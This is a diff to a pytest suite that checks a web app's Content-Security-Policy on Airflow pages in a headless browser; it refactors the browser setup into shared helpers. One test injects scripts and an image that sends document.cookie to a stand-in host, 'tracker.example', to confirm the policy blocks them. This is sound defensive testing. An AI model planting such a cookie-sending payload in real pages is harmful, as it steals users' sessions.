@@ -14,10 +14,8 @@ from typing import Any
 
 import pytest
 import uvicorn
-from helpers.airflow_web import DAG, PASSWORDS, RUN, TASK, stranger
+from helpers.airflow_web import DAG, PASSWORDS, RUN, TASK, logged_in, stranger, wait
 from selenium import webdriver
-from selenium.webdriver.chrome.service import Service
-from selenium.webdriver.support.wait import WebDriverWait
 
 from filmpulse.web import waits
 from filmpulse.web.headers import HEADERS, POLICY
@@ -411,20 +409,6 @@ def test_tasks_own_api_takes_no_persons_token(client: Any, app: Any) -> None:
 
 # --- in a browser --------------------------------------------------------------------------------
 
-_WATCH = """
-window.violations = [];
-document.addEventListener('securitypolicyviolation', e => {
-  violations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}`);
-});
-window.asking = 0; window.asked = 0;
-const fetched = XMLHttpRequest.prototype.send;
-XMLHttpRequest.prototype.send = function (...args) {
-  window.asking += 1; window.asked += 1;
-  this.addEventListener('loadend', () => { window.asking -= 1; });
-  return fetched.apply(this, args);
-};
-"""
-
 
 @pytest.fixture(scope="module")
 def address(app: Any) -> Iterator[str]:
@@ -448,32 +432,8 @@ def address(app: Any) -> Iterator[str]:
 @pytest.fixture(scope="module")
 def browser(address: str) -> Iterator[webdriver.Chrome]:
     """A real browser, logged in by Airflow's own page, that notes what the policy forbade."""
-    from filmpulse.sources.browser import BROWSER_PATHS, DRIVER_PATHS
-
-    options = webdriver.ChromeOptions()
-    options.binary_location = next(path for path in BROWSER_PATHS if Path(path).exists())
-    for word in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage"):
-        options.add_argument(word)
-    options.add_argument("--window-size=1500,1200")
-    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
-    driver = next(path for path in DRIVER_PATHS if Path(path).exists())
-    chrome = webdriver.Chrome(options=options, service=Service(driver))
-    try:
-        watch = {"source": _WATCH}
-        chrome.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", watch)
-        chrome.get(f"{address}/auth/login")
-        _wait(chrome, "return document.querySelectorAll('input').length == 2")
-        name, password = chrome.find_elements("css selector", "input")
-        name.send_keys("admin")
-        password.send_keys(PASSWORDS["admin"] + "\n")
-        _wait(chrome, "return !location.pathname.startsWith('/auth/')")
+    with logged_in(address, "admin", PASSWORDS["admin"]) as chrome:
         yield chrome
-    finally:
-        chrome.quit()
-
-
-def _wait(chrome: webdriver.Chrome, condition: str, seconds: float = 120) -> None:
-    WebDriverWait(chrome, seconds, 0.2).until(lambda it: it.execute_script(condition))
 
 
 PAGES = {
@@ -497,7 +457,7 @@ def test_the_policy_forbids_nothing_that_airflows_pages_do(
     browser: webdriver.Chrome, address: str, path: str, text: str
 ) -> None:
     browser.get(address + path)
-    _wait(
+    wait(
         browser,
         f"return window.asked > 0 && window.asking === 0 && "
         f"document.body.innerText.includes({json.dumps(text)})",
@@ -511,7 +471,7 @@ def test_the_policy_stops_a_script_that_got_into_a_page(
     browser: webdriver.Chrome, address: str
 ) -> None:
     browser.get(f"{address}/variables")
-    _wait(browser, "return document.body.innerText.includes('Variable')")
+    wait(browser, "return document.body.innerText.includes('Variable')")
     browser.execute_script(
         "const one = document.createElement('script'); one.textContent = 'window.got = 1';"
         "document.body.append(one);"
@@ -519,7 +479,7 @@ def test_the_policy_stops_a_script_that_got_into_a_page(
         "document.body.append(two);"
         "const image = new Image(); image.src = 'https://tracker.example/?' + document.cookie;"
     )
-    _wait(browser, "return window.violations.length >= 3")
+    wait(browser, "return window.violations.length >= 3")
     assert browser.execute_script("return window.got") is None
     kinds = {each.split()[0] for each in browser.execute_script("return window.violations")}
     assert kinds == {"script-src-elem", "img-src"}
